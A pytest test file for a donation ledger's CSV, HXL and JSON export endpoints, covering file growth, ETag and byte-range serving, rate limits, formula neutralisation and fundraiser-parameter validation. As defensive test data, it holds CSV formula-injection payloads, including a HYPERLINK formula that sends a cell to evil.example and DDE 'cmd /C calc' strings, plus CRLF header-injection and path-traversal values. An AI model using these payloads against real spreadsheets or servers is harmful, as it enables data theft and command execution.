"""The ledger's exports: whole-ledger files grown after each checkpoint and served with ETag and
byte ranges; bounded per-fundraiser exports; cells no spreadsheet will run; a validated
`?fundraiser=`."""

import csv
import dataclasses
import errno
import fcntl
import io
import json
import os
import re
import shutil
import time
import unicodedata

import pytest
from django.core.management import call_command
from django.utils.http import http_date
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from ledger import checks, exportfiles, exports, services, tasks
from ledger.models import LedgerEntry

from . import scenario
from .factories import FLOUR, FUNDRAISER, HUB, PLACE, delivery, donation, jpeg_bytes

pytestmark = pytest.mark.django_db

FORMATS = ["csv", "hxl.csv", "json"]


@pytest.fixture
def ledger(media):
    return scenario.build()


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def grow(count: int = 3) -> None:
    for n in range(count):
        services.append(kind="donation", payload=donation(amount=f"{n + 7}.00"))
    services.checkpoint_sign()


# ---- what the exports say: unchanged for their readers --------------------------------------


class _Echo:
    def write(self, value: str) -> str:
        return value


def _old_csv(entries, *, hxl: bool):
    """The streaming generator these exports had before they became files (commit d6eb621)."""
    writer = csv.writer(_Echo())
    yield writer.writerow([name for name, _tag in exports.COLUMNS])
    if hxl:
        yield writer.writerow([tag for _name, tag in exports.COLUMNS])
    for entry in entries:
        values = exports.row(entry)
        yield writer.writerow([values[name] for name, _tag in exports.COLUMNS])


def _old_json(entries):
    yield "["
    for n, entry in enumerate(entries):
        data = json.loads(bytes(entry.leaf))
        data["leaf_hash"] = bytes(entry.leaf_hash).hex()
        yield ("," if n else "") + "\n" + json.dumps(data, ensure_ascii=False, sort_keys=True)
    yield "\n]\n"


def _old(fmt: str, entries) -> bytes:
    parts = _old_json(entries) if fmt == "json" else _old_csv(entries, hxl=fmt == "hxl.csv")
    return "".join(parts).encode()


@pytest.mark.parametrize("fmt", FORMATS)
def test_whole_ledger_export_is_what_the_old_generator_made(client, ledger, fmt):
    grow()  # files first written, then appended to: both must read as one generated export
    services.append(kind="donation", payload=donation())
    services.checkpoint_sign()
    response = client.get(f"/ledger/export.{fmt}")
    assert response.status_code == 200
    assert body(response) == _old(fmt, LedgerEntry.objects.order_by("index"))
    assert response["Content-Length"] == str(len(_old(fmt, LedgerEntry.objects.order_by("index"))))
    assert response["Content-Disposition"] == f'attachment; filename="aidhub-ledger.{fmt}"'


@pytest.mark.parametrize("fmt", FORMATS)
def test_fundraiser_export_is_what_the_old_generator_made(client, ledger, fmt):
    response = client.get(f"/ledger/export.{fmt}?fundraiser=batken-2022")
    entries = LedgerEntry.objects.filter(
        refs__scope="fundraiser", refs__ref="batken-2022"
    ).order_by("index")
    assert body(response) == _old(fmt, entries)
    assert response["Content-Disposition"] == (
        f'attachment; filename="aidhub-ledger-batken-2022.{fmt}"'
    )


def test_whole_ledger_export_holds_the_entries_of_the_latest_checkpoint(client, ledger):
    services.append(kind="donation", payload=donation())  # not signed yet
    response = client.get("/ledger/export.json")
    assert [e["index"] for e in json.loads(body(response))] == list(range(9))
    assert response["X-Ledger-Size"] == "9"


# ---- files that only grow -------------------------------------------------------------------


def test_export_files_grow_by_appending_only_the_new_entries(client, ledger, monkeypatch):
    before = {fmt: body(client.get(f"/ledger/export.{fmt}")) for fmt in FORMATS}
    on_disk = {fmt: exportfiles._path(fmt).read_bytes() for fmt in FORMATS}
    started = []
    monkeypatch.setattr(exportfiles, "_start", lambda: started.append(1) or pytest.fail())
    grow(3)
    after = {fmt: body(client.get(f"/ledger/export.{fmt}")) for fmt in FORMATS}
    for fmt in FORMATS:
        assert exportfiles._path(fmt).read_bytes().startswith(on_disk[fmt])
        assert len(exportfiles._path(fmt).read_bytes()) > len(on_disk[fmt])
    assert after["csv"].startswith(before["csv"])
    assert after["csv"].count(b"\r\n") == before["csv"].count(b"\r\n") + 3
    assert after["json"].startswith(before["json"][: -len(b"\n]\n")])
    assert len(json.loads(after["json"])) == 12
    assert not started


def test_signing_a_checkpoint_appends_to_the_files_after_commit(
    ledger, django_capture_on_commit_callbacks
):
    services.append(kind="donation", payload=donation())
    with django_capture_on_commit_callbacks(execute=True):
        services.checkpoint_sign()
    state = exportfiles._read_state()
    assert state is not None and state.size == 10
    csv_bytes = exportfiles._path("csv").read_bytes()
    assert csv_bytes == _old("csv", LedgerEntry.objects.order_by("index"))


def test_an_append_that_crashed_half_way_is_cut_back(client, ledger):
    body(client.get("/ledger/export.csv"))
    with open(exportfiles._path("csv"), "ab") as handle:
        handle.write(b"9,2026-12-01T09:00:00Z,dona")  # a worker killed mid-row
    assert body(client.get("/ledger/export.csv")) == _old(
        "csv", LedgerEntry.objects.order_by("index")
    )
    grow(1)
    assert body(client.get("/ledger/export.csv")) == _old(
        "csv", LedgerEntry.objects.order_by("index")
    )


def test_files_of_another_database_are_written_afresh(client, ledger):
    body(client.get("/ledger/export.csv"))
    state = exportfiles._read_state()
    other = dataclasses.replace(state.good, root="ab" * 32)
    exportfiles._write_state(dataclasses.replace(state, last="ab" * 32, good=other))
    with open(exportfiles._path("csv"), "r+b") as handle:
        handle.seek(len(exports.FORMATS["csv"].head))
        handle.write(b"X")  # not what this database says
    grow(1)
    assert body(client.get("/ledger/export.csv")) == _old(
        "csv", LedgerEntry.objects.order_by("index")
    )


def test_a_fresh_install_serves_the_export_at_once(client, db):
    response = client.get("/ledger/export.json")  # no entries, no checkpoint, no files
    assert response.status_code == 200
    assert body(response) == b"[\n]\n"


def test_while_another_process_writes_the_first_files_the_answer_is_503(client, ledger):
    exportfiles._root().mkdir(parents=True, exist_ok=True)
    with open(exportfiles._root() / ".lock", "a") as other:
        fcntl.flock(other, fcntl.LOCK_EX)  # another open file: flock makes this wait
        response = client.get("/ledger/export.csv")
        assert response.status_code == 503
        assert response["Retry-After"] == "5"
    assert client.get("/ledger/export.csv").status_code == 200


def test_while_another_process_appends_the_older_files_are_served(client, ledger):
    old = body(client.get("/ledger/export.csv"))
    services.append(kind="donation", payload=donation())
    services.checkpoint_sign()
    with open(exportfiles._root() / ".lock", "a") as other:
        fcntl.flock(other, fcntl.LOCK_EX)
        response = client.get("/ledger/export.csv")
        assert response.status_code == 200 and body(response) == old
        assert response["X-Ledger-Size"] == "9"


def test_while_the_first_files_are_written_an_empty_ledger_is_never_served(client, ledger):
    exportfiles._root().mkdir(parents=True, exist_ok=True)
    with open(exportfiles._root() / ".lock", "a") as other:
        fcntl.flock(other, fcntl.LOCK_EX)
        exportfiles._start(exports.fingerprint())  # the builder has written the heads only
        response = client.get("/ledger/export.json")
        assert response.status_code == 503, body(response)
        assert response["Retry-After"] == "5"
    assert len(json.loads(body(client.get("/ledger/export.json")))) == 9


# ---- long builds are the task's, and resume --------------------------------------------------


def test_a_large_build_is_left_to_the_task_and_the_request_is_503(client, ledger, monkeypatch):
    monkeypatch.setattr(exportfiles, "REQUEST_ENTRIES", 5)  # the ledger has 9
    asked = []
    monkeypatch.setattr(services, "exports_enqueue", lambda: asked.append(1))
    for _n in range(2):
        response = client.get("/ledger/export.csv")
        assert response.status_code == 503
        assert response["Retry-After"] == "5"
    assert asked == [1]  # one task, not one per request
    assert not exportfiles._path("csv").exists()  # nothing written in the request
    tasks.exports_update()
    assert body(client.get("/ledger/export.csv")) == _old(
        "csv", LedgerEntry.objects.order_by("index")
    )
    grow(3)  # a catch-up of 3 entries is still done in the request
    assert body(client.get("/ledger/export.csv")) == _old(
        "csv", LedgerEntry.objects.order_by("index")
    )


def test_a_killed_build_resumes_where_it_was(client, ledger, monkeypatch):
    monkeypatch.setattr(exportfiles, "COMMIT_EVERY", 4)
    form = exports.FORMATS["json"]
    written = []

    def dies_at_six(entry, data, position):
        if entry.index == 6:
            raise SystemExit("killed")
        return form.part(entry, data, position)

    monkeypatch.setitem(exports.FORMATS, "json", dataclasses.replace(form, part=dies_at_six))
    with pytest.raises(SystemExit):
        exportfiles.update()
    state = exportfiles._read_state()
    assert state.size == 4 and state.good is None  # saved after 4 entries, not served

    def counted(entry, data, position):
        written.append(entry.index)
        return form.part(entry, data, position)

    monkeypatch.setitem(exports.FORMATS, "json", dataclasses.replace(form, part=counted))
    call_command("ledger_exports")
    assert written == [4, 5, 6, 7, 8]
    monkeypatch.setitem(exports.FORMATS, "json", form)
    for fmt in FORMATS:
        assert body(client.get(f"/ledger/export.{fmt}")) == _old(
            fmt, LedgerEntry.objects.order_by("index")
        )


def test_each_entry_is_parsed_once_for_all_the_files(ledger, monkeypatch):
    parsed = []
    loads = json.loads
    monkeypatch.setattr(exportfiles.json, "loads", lambda raw: parsed.append(1) or loads(raw))
    exportfiles.update()
    assert len(parsed) <= 9 + 1  # the entries, and the state read


# ---- files are of the code that wrote them ---------------------------------------------------


def test_files_written_under_another_format_are_rebuilt(client, ledger, settings, monkeypatch):
    body(client.get("/ledger/export.csv"))
    settings.LANGUAGE_CODE = "ru"  # stands for any change to what a row says
    services.append(kind="adjustment", payload={"hub": HUB, "items": [FLOUR], "reason": "x"})
    services.checkpoint_sign()
    grown = client.get("/ledger/export.csv")
    shutil.rmtree(exportfiles._root())  # another web machine, with only the new code's files
    fresh = client.get("/ledger/export.csv")
    assert grown["ETag"] == fresh["ETag"] and body(grown) == body(fresh)
    monkeypatch.setattr(exports, "FORMAT_VERSION", exports.FORMAT_VERSION + 1)
    rebuilt = client.get("/ledger/export.csv")
    assert rebuilt["ETag"] != fresh["ETag"]


def test_the_etag_of_one_format_does_not_answer_for_another(client, ledger):
    etag = client.get("/ledger/export.csv")["ETag"]
    response = client.get("/ledger/export.json", headers={"if-none-match": etag})
    assert response.status_code == 200
    assert response["ETag"] != etag


# ---- files that went missing, short or bad heal ----------------------------------------------


def test_a_missing_file_is_rebuilt(client, ledger):
    body(client.get("/ledger/export.csv"))
    exportfiles._path("csv").unlink()
    assert body(client.get("/ledger/export.csv")) == _old(
        "csv", LedgerEntry.objects.order_by("index")
    )
    exportfiles._path("hxl.csv").unlink()
    grow(1)
    assert client.get("/ledger/export.json").status_code == 200


def test_a_short_file_is_rebuilt(client, ledger):
    body(client.get("/ledger/export.json"))
    os.truncate(exportfiles._path("json"), 10)
    assert body(client.get("/ledger/export.json")) == _old(
        "json", LedgerEntry.objects.order_by("index")
    )


@pytest.mark.parametrize("bad", ["{", "[]", '{"size": 9}', '{"fingerprint": "x", "size": "a"}'])
def test_a_bad_state_file_is_rebuilt(client, ledger, bad):
    body(client.get("/ledger/export.csv"))
    exportfiles._state_path().write_text(bad)
    assert body(client.get("/ledger/export.csv")) == _old(
        "csv", LedgerEntry.objects.order_by("index")
    )


def test_a_folder_that_cannot_be_written_is_503_not_500(client, ledger, settings, tmp_path):
    (tmp_path / "file").write_text("x")
    settings.LEDGER_EXPORT_ROOT = tmp_path / "file" / "exports"
    response = client.get("/ledger/export.csv")
    assert response.status_code == 503
    assert [e.id for e in checks.check_export_settings(None)] == ["ledger.E003"]


def test_a_full_disk_serves_the_older_copy(client, ledger, monkeypatch):
    old = body(client.get("/ledger/export.csv"))
    grow(1)

    def full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(exportfiles.os, "fsync", full)
    response = client.get("/ledger/export.csv")
    assert response.status_code == 200 and body(response) == old
    monkeypatch.undo()
    assert body(client.get("/ledger/export.csv")) == _old(
        "csv", LedgerEntry.objects.order_by("index")
    )


def test_the_export_settings_are_checked(settings, tmp_path):
    settings.LEDGER_EXPORT_ROOT = tmp_path / "not-yet" / "exports"  # created on first use
    assert checks.check_export_settings(None) == []
    settings.LEDGER_EXPORT_CONCURRENCY = 0
    assert [e.id for e in checks.check_export_settings(None)] == ["ledger.E004"]


# ---- served like a static file --------------------------------------------------------------


def test_if_none_match_with_the_current_etag_is_304(client, ledger):
    first = client.get("/ledger/export.csv")
    etag = first["ETag"]
    assert etag.startswith(f'"{exports.fingerprint()[:12]}-csv-9-')
    again = client.get("/ledger/export.csv", headers={"if-none-match": etag})
    assert again.status_code == 304
    assert again["ETag"] == etag
    since = client.get("/ledger/export.csv", headers={"if-modified-since": first["Last-Modified"]})
    assert since.status_code == 304
    grow(1)
    newer = client.get("/ledger/export.csv", headers={"if-none-match": etag})
    assert newer.status_code == 200 and newer["ETag"] != etag


def test_a_byte_range_is_206_with_exactly_those_bytes(client, ledger):
    full = body(client.get("/ledger/export.json"))
    response = client.get("/ledger/export.json", headers={"range": "bytes=10-19"})
    assert response.status_code == 206
    assert body(response) == full[10:20]
    assert response["Content-Range"] == f"bytes 10-19/{len(full)}"
    assert response["Content-Length"] == "10"
    # Across the end of the file into the closing bracket that is served after it.
    response = client.get("/ledger/export.json", headers={"range": "bytes=-5"})
    assert body(response) == full[-5:] and full.endswith(b"}\n]\n")
    response = client.get("/ledger/export.json", headers={"range": f"bytes={len(full) - 7}-"})
    assert body(response) == full[-7:]
    response = client.get("/ledger/export.json", headers={"range": "bytes=0-99999999"})
    assert response.status_code == 206 and body(response) == full


def test_a_download_resumes_where_it_broke_off(client, ledger):
    first = client.get("/ledger/export.csv")
    full = body(first)
    resumed = client.get(
        "/ledger/export.csv",
        headers={"range": "bytes=100-", "if-range": first["ETag"]},
    )
    assert resumed.status_code == 206
    assert full[:100] + body(resumed) == full


def test_a_range_of_another_version_gets_the_whole_file(client, ledger):
    response = client.get(
        "/ledger/export.csv", headers={"range": "bytes=100-", "if-range": '"3-abc"'}
    )
    assert response.status_code == 200
    assert body(response).startswith(b"index,time")


def test_ranges_past_the_end_are_416_and_odd_ones_get_everything(client, ledger):
    full = body(client.get("/ledger/export.csv"))
    refused = client.get("/ledger/export.csv", headers={"range": f"bytes={len(full)}-"})
    assert refused.status_code == 416
    assert refused["Content-Range"] == f"bytes */{len(full)}"
    for odd in ["bytes=0-1,5-6", "bytes=9-3", "lines=1-2", "bytes=-", "bytes=" + "9" * 30]:
        response = client.get("/ledger/export.csv", headers={"range": odd})
        assert response.status_code == 200 and body(response) == full, odd


def test_whole_ledger_exports_are_not_rate_limited(client, ledger, settings):
    settings.RATELIMIT_ENABLE = True
    for _n in range(15):
        assert client.get("/ledger/export.csv").status_code == 200


def test_head_of_an_export_has_its_length(client, ledger):
    full = body(client.get("/ledger/export.csv"))
    response = client.head("/ledger/export.csv")
    assert response.status_code == 200
    assert response["Content-Length"] == str(len(full))


# ---- generated exports are bounded ----------------------------------------------------------


@pytest.mark.limits
def test_fundraiser_exports_beyond_the_rate_get_429(client, ledger):
    for _n in range(10):
        response = client.get("/ledger/export.csv?fundraiser=batken-2022")
        assert response.status_code == 200
        body(response)
    refused = client.get("/ledger/export.csv?fundraiser=batken-2022")
    assert refused.status_code == 429
    assert refused["Retry-After"] == "60"
    other = client.get("/ledger/export.csv?fundraiser=batken-2022", REMOTE_ADDR="10.0.0.9")
    assert other.status_code == 200


def test_only_a_few_fundraiser_exports_are_made_at_once(client, ledger, settings):
    settings.LEDGER_EXPORT_CONCURRENCY = 2
    url = "/ledger/export.json?fundraiser=batken-2022"
    downloading = [client.get(url, REMOTE_ADDR=f"10.0.0.{n}") for n in (1, 2)]
    busy = client.get(url, REMOTE_ADDR="10.0.0.3")
    assert busy.status_code == 503
    assert busy["Retry-After"] == "10"
    assert "Too many exports" in busy.text
    body(downloading[0])  # the download ends: its place is free
    downloading[0].close()
    assert client.get(url, REMOTE_ADDR="10.0.0.3").status_code == 200
    downloading[1].close()


def test_one_address_holds_one_export_place_at_a_time(client, ledger, settings):
    settings.LEDGER_EXPORT_CONCURRENCY = 3
    url = "/ledger/export.csv?fundraiser=batken-2022"
    held = client.get(url)
    assert held.status_code == 200
    again = client.get(url)
    assert again.status_code == 429 and again["Retry-After"] == "10"
    assert "previous export" in again.text
    others = [client.get(url, REMOTE_ADDR=f"10.0.0.{n}") for n in (1, 2)]
    assert [r.status_code for r in others] == [200, 200]  # the other places were left to them
    held.close()
    assert client.get(url).status_code == 200
    for response in others:
        response.close()


def test_a_place_whose_holder_died_is_free_again_after_its_lease(client, ledger, settings):
    settings.LEDGER_EXPORT_CONCURRENCY = 1
    settings.LEDGER_EXPORT_SLOT_SECONDS = 1  # the cache's own expiry (Redis keeps real time)
    held = client.get("/ledger/export.csv?fundraiser=batken-2022")  # its process dies: no close
    assert held.status_code == 200
    url = "/ledger/export.csv?fundraiser=batken-2022"
    assert client.get(url, REMOTE_ADDR="10.0.0.9").status_code == 503
    assert client.get(url).status_code == 429  # its address's place, too
    time.sleep(1.2)
    assert client.get(url).status_code == 200


# ---- cells no spreadsheet will run ----------------------------------------------------------

TRICKS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("trick", TRICKS)
def test_formula_cells_are_neutralised_in_csv_but_the_ledger_keeps_them(client, media, trick):
    place = {**PLACE, "name": trick}
    hub = {**HUB, "name": trick}
    fundraiser = {**FUNDRAISER, "title": trick}
    photo = services.evidence_store(data=jpeg_bytes(), content_type="image/jpeg")
    entry = services.append(
        kind="delivery",
        payload=delivery([photo.sha256], place=place, hub=hub, fundraisers=[fundraiser],
                         items=[{**FLOUR, "name": trick}]),
    )  # fmt: skip
    services.checkpoint_sign()
    assert trick in json.loads(bytes(entry.leaf))["payload"]["place"]["name"]
    for fmt, url in [
        ("csv", "/ledger/export.csv"),
        ("hxl.csv", "/ledger/export.hxl.csv"),
        ("csv", "/ledger/export.csv?fundraiser=batken-2022"),
    ]:
        rows = list(csv.DictReader(io.StringIO(body(client.get(url)).decode())))
        last = rows[-1]
        neutral = exports.safe_cell(trick)
        assert neutral.startswith("'" + trick[0])
        if not exports.SEPARATORS.search(trick):
            assert neutral == "'" + trick
        for column in ("place", "hub", "fundraiser", "items"):
            assert last[column].startswith(neutral), (fmt, url, column)
        assert last["reached"] == "120"
    exported = json.loads(body(client.get("/ledger/export.json")))[-1]
    assert exported["payload"]["place"]["name"] == trick  # JSON is the signed bytes, as they are
    exported = json.loads(body(client.get("/ledger/export.json?fundraiser=batken-2022")))[-1]
    assert exported["payload"]["hub"]["name"] == trick


@pytest.mark.parametrize(
    "value, cell",
    [
        ("-300.00", "-300.00"),
        ("+5", "+5"),
        ("-2", "-2"),
        ("1200.00", "1200.00"),
        ("-2+3", "'-2+3"),
        ("-", "'-"),
        ("-1e5", "'-1e5"),
        ("-٣", "'-٣"),
        ("Isfana", "Isfana"),
        ("", ""),
        ("a=1", "a=1"),
        (" =1+1", "' =1+1"),
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ("\ufeff=1+1", "'\ufeff=1+1"),
        ("\u200b@SUM(A1)", "'\u200b@SUM(A1)"),
        ('"=1+1', "'\"=1+1"),
        ("\u22121+1", "'\u22121+1"),
        ("\ufe62cmd", "'\ufe62cmd"),
        ("\ufe66cmd", "'\ufe66cmd"),
        ("Isfana;=cmd|' /C calc'!A0;", "Isfana;'=cmd|' /C calc'!A0;"),
        ("food; water", "food; water"),
        ("rice 5 kg, -3 boxes", "rice 5 kg,' -3 boxes"),
        ("1;-5", "1;'-5"),
        ('"-1', "'\"-1"),
        ("a\t+b", "a\t'+b"),
    ],
)
def test_plain_numbers_stay_numbers(value, cell):
    assert exports.safe_cell(value) == cell


def test_a_formula_after_a_semicolon_is_neutralised_for_spreadsheets_that_split_on_it(
    client, media
):
    photo = services.evidence_store(data=jpeg_bytes(), content_type="image/jpeg")
    place = {**PLACE, "name": "Isfana;=cmd|' /C calc'!A0;"}
    services.append(kind="delivery", payload=delivery([photo.sha256], place=place))
    services.checkpoint_sign()
    line = body(client.get("/ledger/export.csv")).decode().splitlines()[-1]
    assert "Isfana;'=cmd" in line
    for separator in ";\t":
        assert not any(cell.startswith(exports.FORMULA_STARTS) for cell in line.split(separator))


def _runs(piece: str) -> bool:
    """Whether a spreadsheet could take this piece of a line for a formula (a plain number is
    a number)."""
    start = 0
    while start < len(piece) and exports._ignored(piece[start]):
        start += 1
    rest = piece[start:]
    return rest.startswith(FORMULA_CHARS) and not exports.PLAIN_NUMBER.fullmatch(piece.strip())


FORMULA_CHARS = ("=", "+", "-", "@", "\u2212")  # and their full-width forms, folded below
TRICKY = (
    st.text(
        alphabet=st.sampled_from(
            list("=+-@,;\t\r\n \"'a1.")
            + list(exports.FORMULA_STARTS)
            + ["\u00a0", "\ufeff", "\u200b"]
        )
    )
    | st.text()
)


@hypothesis_settings(max_examples=300, deadline=None)
@given(cells=st.lists(TRICKY, min_size=1, max_size=4))
def test_no_piece_of_a_csv_line_starts_a_formula_whatever_it_is_split_on(cells):
    line = exports._csv_line(cells)
    for piece in re.split(r"[,;\t\r\n]", line):
        folded = unicodedata.normalize("NFKC", piece)  # the full-width and small forms
        assert not _runs(piece) and not _runs(folded), (cells, line, piece)


# ---- ?fundraiser= -----------------------------------------------------------------------------

BAD_FUNDRAISERS = [
    "evil.html\"; filename*=UTF-8''evil.html",
    "x\r\nSet-Cookie: session=stolen",
    "x\nX-Injected: 1",
    "batken-2022\n",
    "batken\x00-2022",
    "\x00",
    "Batken-2022",
    "../../etc/passwd",
    "a" * 65,
]


@pytest.mark.parametrize("raw", BAD_FUNDRAISERS)
@pytest.mark.parametrize("fmt", FORMATS)
def test_a_fundraiser_that_is_not_a_public_id_is_400(client, ledger, raw, fmt):
    response = client.get(f"/ledger/export.{fmt}", {"fundraiser": raw})
    assert response.status_code == 400
    if "\x00" not in raw:  # NUL is refused before the view (aidhub.security.RejectNulMiddleware)
        assert "public id" in response.text
    assert "Content-Disposition" not in response
    assert "Set-Cookie" not in response and "X-Injected" not in response


def test_a_fundraiser_with_no_entries_yet_is_an_empty_export(client, ledger):
    response = client.get("/ledger/export.json?fundraiser=new-fundraiser")
    assert response.status_code == 200
    assert body(response) == b"[\n]\n"
    assert response["Content-Disposition"] == (
        'attachment; filename="aidhub-ledger-new-fundraiser.json"'
    )


def test_an_unknown_format_is_404(client, ledger):
    assert client.get("/ledger/export.xlsx").status_code == 404
    assert client.get("/ledger/export.xlsx?fundraiser=x%0d%0a").status_code == 404


def test_last_modified_is_the_checkpoint_time(client, ledger):
    response = client.get("/ledger/export.csv")
    assert response["Last-Modified"] == http_date(ledger["checkpoint"].created_at.timestamp())
